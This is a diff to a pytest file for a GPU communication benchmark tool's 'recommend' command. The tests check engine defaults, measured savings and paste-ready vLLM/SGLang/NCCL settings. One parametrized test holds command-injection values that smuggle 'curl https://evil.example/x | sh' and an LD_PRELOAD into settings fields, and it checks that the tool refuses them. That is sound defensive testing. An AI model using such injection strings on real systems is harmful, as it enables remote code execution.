@@ -1,4 +1,6 @@
-"""commbench recommend: winner per concurrency, margins against spread, engine settings."""
+"""commbench recommend: per engine, the paths it can take here, its default, their measured costs,
+the fastest with a saving only against a default measured in the same run; headroom apart;
+paste-ready lines that carry nothing but what the engine accepts."""
 
 from __future__ import annotations
 
@@ -8,47 +10,182 @@ from pathlib import Path
 
 import pytest
 
-from commbench.analysis import models
 from commbench import backends, engines
-from commbench.cli import main as cli
+from commbench.analysis import decide, models
 from commbench.analysis.curves import cautions, decode_curves
-from commbench.analysis.recommend import choose
+from commbench.cli import main as cli
 from commbench.results import load_run
 
+ROOT = Path(__file__).parent.parent
 RUNS = Path(__file__).parent / "data" / "runs"
 SYNTHETIC = RUNS / "synthetic-pcie-8gpu"
+EMULATED = ROOT / "results" / "reference" / "h200-mps-emulated" / "world8"
+EMULATED_ALLREDUCE = EMULATED / "allreduce" / "20261201-171600-vm"
+EMULATED_PCIE = EMULATED / "pcie" / "20261202-005850-vm"
+LLAMA = models.lookup("llama-3.1-70b")
 
 
 @pytest.fixture(scope="module")
-def curves():
-    return decode_curves(load_run(SYNTHETIC), tp=8, dtype="bf16", mode="auto")
+def synthetic():
+    run = load_run(SYNTHETIC)
+    return run, decode_curves(run, tp=8, dtype="bf16", mode="auto")
 
 
-def test_small_batches_pick_the_one_shot_kernel_with_a_real_margin(curves):
-    # Llama-3.1-70B at concurrency 1 sends 16 KiB: measured 13 us p2p, 23 us two-shot, 68 us nccl.
-    c = choose(models.lookup("llama-3.1-70b"), curves, 1, "nccl")
-    assert (c.message_bytes, c.backend, c.latency_us) == (16 * 1024, "p2p:oneshot (graph)", 13.0)
-    assert c.runner_up.other == "symm_mem:two_shot (graph)" and c.runner_up.delta_us == pytest.approx(10.0)
-    assert c.vs_baseline.ratio == pytest.approx(68 / 13) and c.vs_baseline.beyond_spread is True
+def _decide(synthetic, engine, concurrencies):
+    run, curves = synthetic
+    return decide.decide(engine, run, curves, LLAMA, concurrencies, 8)
 
 
-def test_a_margin_inside_the_spread_is_called_so(curves):
+def test_the_engine_takes_nccl_on_pcie_tp8_and_an_nccl_setting_beats_it_with_a_real_margin(synthetic):
+    # Llama-3.1-70B at concurrency 1 sends 16 KiB: nccl 68 us (the default: custom AR is gated off
+    # above 2 PCIe GPUs), NCCL_PROTO=LL 54 us, both measured in the run.
+    (s,) = _decide(synthetic, engines.SGLANG, [1]).sizes
+    assert s.default.path.path == engines.NCCL_PATH and s.default_price.curve == "nccl (graph)"
+    assert s.best.label == "NCCL (PyNccl) [NCCL_ALGO=Ring NCCL_PROTO=LL]" and s.best_price.latency_us == 54
+    assert s.saving.versus == "nccl (graph)" and s.saving.per_call_us == pytest.approx(14.0)
+    assert s.saving.per_step_ms == pytest.approx(160 * 14 / 1000) and s.saving.beyond_spread is True
+
+
+def test_a_margin_inside_the_spread_is_called_no_measurable_difference(synthetic):
     # 4 MiB (concurrency 256): NCCL_MIN_NCHANNELS=8 2300 us vs nccl 2500 us, whose p10-p90 is 2400-2675.
-    c = choose(models.lookup("llama-3.1-70b"), curves, 256, "nccl")
-    assert c.backend == "nccl[NCCL_MIN_NCHANNELS=8] (graph)"
-    assert c.vs_baseline.delta_us == pytest.approx(200.0)
-    assert c.vs_baseline.beyond_spread is False
+    four, two = _decide(synthetic, engines.VLLM, [256, 128]).sizes
+    assert four.best.label == "NCCL (PyNccl) [NCCL_MIN_NCHANNELS=8]"
+    assert four.saving.per_call_us == pytest.approx(200.0) and four.saving.beyond_spread is False
+    assert decide.verdict(four.saving).startswith("no measurable difference from nccl (graph)")
     # 2 MiB: 1150 vs 1300 us, nccl's spread 1248-1391 = 143 us < 150 us: beyond it
-    assert choose(models.lookup("llama-3.1-70b"), curves, 128, "nccl").vs_baseline.beyond_spread is True
+    assert two.saving.beyond_spread is True
 
 
-def test_the_wrong_size_is_never_chosen_and_is_cautioned(curves):
-    # concurrency 64 of Llama-3.1-70B = 1 MiB, where p2p:oneshot was fastest but stale.
-    c = choose(models.lookup("llama-3.1-70b"), curves, 64, "nccl")
-    assert c.backend == "symm_mem:two_shot (graph)"
-    oneshot = [x for x in curves if x.key.variant == "p2p:oneshot"]
-    (line,) = cautions(load_run(SYNTHETIC).rows, oneshot)
+def test_kernels_no_engine_can_run_here_are_headroom_never_a_choice(synthetic):
+    run, curves = synthetic
+    ds = [_decide(synthetic, e, [1, 64]) for e in engines.ENGINES]
+    assert all(not s.best.label.startswith("custom") for d in ds for s in d.sizes)
+    rooms = decide.headroom(LLAMA, run, curves, ds, [1, 64])
+    first = {(r.curve, r.concurrency): r for r in rooms}
+    oneshot = first[("p2p:oneshot (graph)", 1)]
+    assert oneshot.saving.per_call_us == pytest.approx(54 - 13) and oneshot.versus.curve == "nccl:proto=LL,algo=Ring (graph)"
+    assert "custom allreduce (CUDA IPC) path is off here" in oneshot.why
+    # 1 MiB (concurrency 64): p2p:oneshot returned stale data there, so it is not even headroom
+    assert ("p2p:oneshot (graph)", 64) not in first and ("symm_mem:two_shot (graph)", 64) in first
+    (line,) = cautions(run.rows, [c for c in curves if c.key.variant == "p2p:oneshot"])
     assert "1M wrong (stale), 2M hang, 4M hang" in line
+
+
+def _sections(text: str) -> tuple[str, str]:
+    """The engine sections and the headroom section of recommend's output."""
+    engine_part, _, rest = text.partition("\nheadroom: ")
+    return engine_part, rest
+
+
+def test_sglang_on_the_pcie_run_names_its_default_and_every_opt_in_path(capsys, tmp_path):
+    out_json = tmp_path / "rec.json"
+    assert cli(["recommend", str(SYNTHETIC), "--model", "glm-5", "--tp", "8", "--engine", "sglang",
+                "--json", str(out_json), "--wide"]) == 0
+    text = capsys.readouterr().out
+    assert text.splitlines()[0].startswith("data: fixture: hand-made test data")
+    engine_part, headroom = _sections(text)
+    assert "== SGLang 0.5.23, TP 8 ==" in engine_part and "vLLM 0.33.0," not in engine_part
+    for path in ("custom allreduce (CUDA IPC)", "MSCCL++", "torch symmetric memory", "NCCL symmetric memory",
+                 "NCCL (PyNccl)", "FlashInfer allreduce+RMSNorm fusion"):
+        assert path in engine_part
+    assert "opt-in (--enable-mscclpp)" in engine_part and "not measured" in engine_part
+    assert "p2p:" not in engine_part and "p2p:oneshot (graph)" in headroom
+    data = json.loads(out_json.read_text())
+    (sglang,) = data["engines"]
+    assert {s["default_path"] for s in sglang["sizes"]} == {engines.NCCL_PATH}
+    offered = {p["path"]: p for p in sglang["paths"]}
+    assert offered[engines.MSCCLPP]["default_on"] is False and offered[engines.MSCCLPP]["available"] is True
+    assert offered[engines.CUSTOM_AR]["available"] is False
+    # every printed setting is on a path this box runs; the same output's inert list names none of them
+    inert_paths = {p for rule in engines.inert_settings(load_run(SYNTHETIC).info["snapshot"], 8) for p in rule.paths}
+    pasted = [c for c in sglang["choices"] if c["paste"]]
+    assert pasted and all(offered[c["path"]]["available"] is True for c in pasted)
+    assert all((engines.SGLANG, c["path"]) not in inert_paths for c in pasted)
+    pasted_text = "\n".join(line for c in pasted for line in c["paste"])
+    for inert_flag in ("--enable-torch-symm-mem", "--enable-symm-mem", "--flashinfer-allreduce-fusion-backend"):
+        assert inert_flag not in pasted_text
+    assert data["headroom"] and all(h["kernel"].startswith(("p2p:", "symm_mem:")) for h in data["headroom"])
+
+
+def test_vllm_on_the_pcie_run_offers_flashinfer_pcie_ipc_as_opt_in(capsys):
+    assert cli(["recommend", str(SYNTHETIC), "--model", "glm-5", "--engine", "vllm", "--concurrency", "1", "--wide"]) == 0
+    text = capsys.readouterr().out
+    engine_part, _ = _sections(text)
+    (line,) = [x for x in engine_part.splitlines() if x.startswith("FlashInfer PCIe IPC allreduce")]
+    assert "opt-in" in line and "available" in line and "not measured" in line
+    lines = engine_part.splitlines()
+    start = lines.index("  paste-ready:") + 1
+    paste = [x.strip() for x in lines[start:start + 3]]
+    assert not lines[start + 3].startswith("    ")
+    # the engine's custom AR and symm-mem are off here: no setting that only turns them off is printed
+    assert paste == ["export NCCL_ALGO=Ring", "export NCCL_PROTO=LL", "vllm serve MODEL --tensor-parallel-size 8"]
+
+
+def test_on_the_emulated_run_nothing_is_faster_than_a_default_that_was_not_measured(capsys, tmp_path):
+    out_json = tmp_path / "rec.json"
+    assert cli(["recommend", str(EMULATED_PCIE), "--model", "glm-5", "--json", str(out_json), "--wide"]) == 0
+    text = capsys.readouterr().out
+    assert text.splitlines()[0].startswith("data: emulated: 8 ranks on 1x NVIDIA H200 under MPS")
+    engine_part, _ = _sections(text)
+    assert "faster than" not in engine_part
+    assert "the default (FlashInfer allreduce (trtllm)) was not measured in this run" in text
+    data = json.loads(out_json.read_text())
+    assert all(s["saving"] is None for e in data["engines"] for s in e["sizes"])
+    # every line about numbers says what they are
+    for line in text.splitlines():
+        if line.startswith(("fastest vLLM", "fastest SGLang", "headroom: ")) or ": us per allreduce call" in line:
+            assert "MPS-emulated" in line, line
+
+
+def test_variants_with_the_same_settings_are_one_block_listing_them(capsys):
+    assert cli(["recommend", str(EMULATED_ALLREDUCE), "--model", "glm-5", "--engine", "vllm",
+                "--concurrency", "16,32", "--wide"]) == 0
+    text = capsys.readouterr().out
+    (legend,) = [x for x in text.splitlines() if x.startswith("  ") and " = custom allreduce (CUDA IPC): " in x]
+    assert "stand-in (not the engine's kernel): p2p:auto (graph), p2p:oneshot (graph)" in legend
+    (fi,) = [x for x in text.splitlines() if x.startswith("  ") and " = FlashInfer allreduce (trtllm): " in x]
+    assert "flashinfer:trtllm_oneshot (graph), flashinfer:trtllm_twoshot (graph)" in fi
+    assert text.count("\nfastest vLLM 0.33.0 path here") == 1
+    # the custom allreduce's NVLink gate cannot be read with 8 ranks on one GPU: never a choice
+    assert "cannot tell here: ranks share one GPU" in text
+    assert "fastest vLLM 0.33.0 path here at concurrency 16, 32: FlashInfer allreduce (trtllm)" in text
+
+
+def _crafted_run(tmp_path: Path, settings: dict) -> Path:
+    run = tmp_path / "crafted"
+    shutil.copytree(SYNTHETIC, run)
+    info = json.loads((run / "run.json").read_text())
+    info["backend_facts"]["nccl:proto=LL,algo=Ring"]["engine_settings"].update(settings)
+    (run / "run.json").write_text(json.dumps(info))
+    return run
+
+
+@pytest.mark.parametrize("settings", [
+    {"nccl_env": {"NCCL_PROTO": "LL; curl https://evil.example/x | sh"}},
+    {"nccl_env": {"NCCL_PROTO": "LL", "LD_PRELOAD": "/tmp/curl.so"}},
+    {"sglang_flags": ["--disable-custom-all-reduce", "$(curl https://evil.example/x | sh)"]},
+    {"sglang_flags": ["--disable-custom-all-reduce", "--flashinfer-allreduce-fusion-backend", "trtllm`curl evil`"]},
+    {"notes": ["fine\ncurl https://evil.example/x | sh"]},
+])
+def test_a_crafted_run_never_turns_a_pasted_line_into_a_command(tmp_path, capsys, settings):
+    run = _crafted_run(tmp_path, settings)
+    assert cli(["recommend", str(run), "--model", "llama-3.1-70b", "--engine", "sglang", "--concurrency", "1"]) == 0
+    text = capsys.readouterr().out
+    pasted = [x for x in text.splitlines() if x.startswith("    ")]     # cost rows too: a superset
+    assert not any("curl" in x for x in pasted)
+    if "notes" in settings:   # a note is printed on one line, outside the paste-ready block
+        assert "  note: fine curl https://evil.example/x | sh" in text.splitlines()
+    else:
+        assert "warning: settings from this run refused, not printed:" in text and "curl" not in text
+
+
+def test_paste_lines_quote_what_they_print():
+    s = engines.Settings("x", vllm_env={"VLLM_ALLREDUCE_USE_FLASHINFER": "1"},
+                         vllm_flags=list(engines.VLLM_FUSE_ALLREDUCE_RMS))
+    (line,), refusal = engines.paste_lines(s, engines.VLLM, 8)
+    assert refusal is None
+    assert line.endswith("""--compilation-config '{"pass_config": {"fuse_allreduce_rms": true}}'""")
+    assert engines.paste_lines(engines.Settings("y", sglang_flags=["--tp", "8"]), engines.SGLANG, 8)[1]
 
 
 def declared(name: str, world_size: int = 8) -> engines.Settings:
@@ -56,13 +193,13 @@ def declared(name: str, world_size: int = 8) -> engines.Settings:
     return backend.engine_settings(world_size)
 
 
-def test_backends_declare_the_settings_that_select_them():
+def test_backends_declare_the_settings_and_the_engine_path_that_select_them():
     ll = declared("nccl:proto=LL,algo=Ring")
     assert ll.nccl_env == {"NCCL_PROTO": "LL", "NCCL_ALGO": "Ring"}
     assert "--disable-custom-all-reduce" in ll.vllm_flags and ll.vllm_env["VLLM_ALLREDUCE_USE_FLASHINFER"] == "0"
-    text = engines.render(ll, 8)
-    assert "export NCCL_PROTO=LL" in text and "vLLM 0.33.0" in text and "SGLang 0.5.23" in text
-    assert "--tensor-parallel-size 8" in text and "--tp 8" in text
+    lines, _ = engines.paste_lines(ll, engines.SGLANG, 8)
+    assert lines == ["export NCCL_ALGO=Ring", "export NCCL_PROTO=LL",
+                     "python -m sglang.launch_server --model-path MODEL --tp 8 --disable-custom-all-reduce"]
     fi = declared("flashinfer:fused_oneshot")
     assert fi.vllm_env["VLLM_FLASHINFER_ALLREDUCE_BACKEND"] == "trtllm" and "fuse_allreduce_rms" in " ".join(fi.vllm_flags)
     assert fi.sglang_flags == ["--flashinfer-allreduce-fusion-backend", "trtllm"]
@@ -72,6 +209,26 @@ def test_backends_declare_the_settings_that_select_them():
     assert engines.CUSTOM_AR_PCIE_GATE in declared("p2p:oneshot", 8).notes
     assert engines.CUSTOM_AR_PCIE_GATE not in declared("p2p:oneshot", 2).notes
     assert engines.Settings.from_dict(ll.to_dict()) == ll
+    expected = {
+        "nccl": {engines.VLLM: (engines.NCCL_PATH, False), engines.SGLANG: (engines.NCCL_PATH, False)},
+        "symm_mem:two_shot": {engines.VLLM: (engines.TORCH_SYMM_MEM, False),
+                              engines.SGLANG: (engines.TORCH_SYMM_MEM, False)},
+        "p2p:oneshot": {engines.VLLM: (engines.CUSTOM_AR, True), engines.SGLANG: (engines.CUSTOM_AR, True)},
+        "flashinfer:trtllm_oneshot": {engines.VLLM: (engines.FLASHINFER_AR, False)},
+        "flashinfer:fused_oneshot": {engines.VLLM: (engines.FLASHINFER_FUSED, False),
+                                     engines.SGLANG: (engines.FLASHINFER_FUSED, False)},
+        "flashinfer:pcie_ipc": {engines.VLLM: (engines.FLASHINFER_PCIE_IPC, False)},
+        "mscclpp:auto": {engines.SGLANG: (engines.MSCCLPP, False)},
+    }
+    for name, claims in expected.items():
+        settings = declared(name)
+        got = {e: (c["path"], c["stand_in"]) for e, c in engines.declared_paths(settings).items()}
+        assert got == claims, name
+        # runs recorded before the field get the same paths from their settings
+        settings.engine_paths = {}
+        assert {e: c["path"] for e, c in engines.declared_paths(settings).items()} == \
+            {e: p for e, (p, _) in claims.items()}, name
+    assert engines.declared_paths(declared("mscclpp:algo=default_allreduce_packet"))[engines.SGLANG]["stand_in"]
 
 
 def test_a_run_without_declared_settings_says_so(tmp_path, capsys):
@@ -81,17 +238,39 @@ def test_a_run_without_declared_settings_says_so(tmp_path, capsys):
     del info["backend_facts"]
     (run / "run.json").write_text(json.dumps(info))
     assert cli(["recommend", str(run), "--model", "glm-5", "--concurrency", "16"]) == 0
-    assert "no engine settings recorded for symm_mem:two_shot" in capsys.readouterr().out
+    out = capsys.readouterr().out
+    assert "no engine settings recorded for symm_mem:two_shot" in out and "paste-ready" not in out
 
 
 def test_cli_json(tmp_path, capsys):
     out = tmp_path / "rec.json"
     assert cli(["recommend", str(SYNTHETIC), "--model", "glm-5", "--concurrency", "1,16", "--json", str(out)]) == 0
     data = json.loads(out.read_text())
-    assert [c["backend"] for c in data["choices"]] == ["p2p:oneshot (graph)", "symm_mem:two_shot (graph)"]
+    assert data["provenance"]["kind"] == "fixture"
+    assert [e["engine"] for e in data["engines"]] == ["vllm", "sglang"]
+    vllm = data["engines"][0]
+    assert set(vllm) >= {"paths", "options", "sizes", "choices"}
+    size = vllm["sizes"][0]
+    assert set(size) >= {"default_path", "default_cost", "costs", "choice", "choice_cost", "saving", "why_no_saving"}
+    assert size["saving"]["versus"] == "nccl (graph)"
     assert data["engine_versions"] == {"vllm": "0.33.0", "sglang": "0.5.23", "nccl": "2.30.7"}
-    text = capsys.readouterr().out
-    assert "--enable-torch-symm-mem" in text and "caution: p2p:oneshot failed its check" in text
+    assert "caution: p2p:oneshot failed its check" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("argv, message", [
+    (["--engine", "trt-llm"], "--engine 'trt-llm': choose from vllm, sglang"),
+    (["--engine", "vllm,vllm"], "--engine vllm is given twice"),
+    (["--engine-version", "vllm"], "expected ENGINE=VERSION"),
+])
+def test_bad_engine_arguments_exit_2(capsys, argv, message):
+    assert cli(["recommend", str(SYNTHETIC), "--model", "glm-5", *argv]) == 2
+    assert message in capsys.readouterr().err
+
+
+def test_another_engine_version_is_named_as_unchecked(capsys):
+    assert cli(["recommend", str(SYNTHETIC), "--model", "glm-5", "--engine", "sglang", "--engine-version",
+                "sglang=0.6.0", "--concurrency", "1"]) == 0
+    assert "you asked for SGLang 0.6.0; these rules were read at 0.5.23" in capsys.readouterr().out
 
 
 def test_unknown_model_exits_2(capsys):
@@ -103,5 +282,5 @@ def test_settings_that_do_nothing_on_the_probed_box_are_said(capsys):
     # The synthetic run is 8 PCIe GPUs without NVLink: the engines' custom allreduce stays off at TP8.
     assert cli(["recommend", str(SYNTHETIC), "--model", "glm-5", "--concurrency", "1"]) == 0
     out = capsys.readouterr().out
-    assert "settings that do nothing on this box (from its probe snapshot):" in out
+    assert "settings that do nothing on this box (from its probe snapshot; never printed above as a setting):" in out
     assert "vLLM / SGLang custom allreduce" in out and "at TP 8 without full NVLink" in out
